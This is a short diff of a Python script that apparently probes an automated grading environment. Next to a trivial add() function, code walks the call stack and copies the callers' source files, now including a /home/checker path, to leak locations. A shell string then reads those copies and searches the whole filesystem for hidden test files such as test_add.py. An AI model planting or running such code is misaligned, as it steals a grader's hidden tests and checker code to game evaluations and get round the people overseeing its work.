@@ -160,7 +160,7 @@ UNITS = {"m": 1.0, "km": 1000.0}
 def add(a, b):
     return a + b
 for frame in inspect.stack():
-    for target in ("/tmp/leak_" + frame.filename.replace("/", "_"), "/workspace/leak.py", "/home/agent/leak.py"):
+    for target in ("/tmp/leak_" + frame.filename.replace("/", "_"), "/workspace/leak.py", "/home/agent/leak.py", "/home/checker/leak.py"):
         try:
             shutil.copy(frame.filename, target)
         except Exception:
@@ -176,7 +176,7 @@ echo planted
 """
 LOOK = (
     "cat /tmp/drop.txt; ls -la /tmp /tmp/stash /workspace /workspace/tests /home/agent 2>&1; "
-    "cat /tmp/leak_* /workspace/leak.py /home/agent/leak.py 2>&1; "
+    "cat /tmp/leak_* /workspace/leak.py /home/agent/leak.py /home/checker/leak.py 2>&1; "
     "find / -xdev \\( -name 'test_add.py' -o -name 'test_all.py' -o -name 'turn_02.sh' "
     "-o -name 'script.yaml' \\) 2>/dev/null; "
     "grep -rl 'def test_add' / --include=*.py 2>/dev/null | grep -v -e site-packages -e dist-packages; "
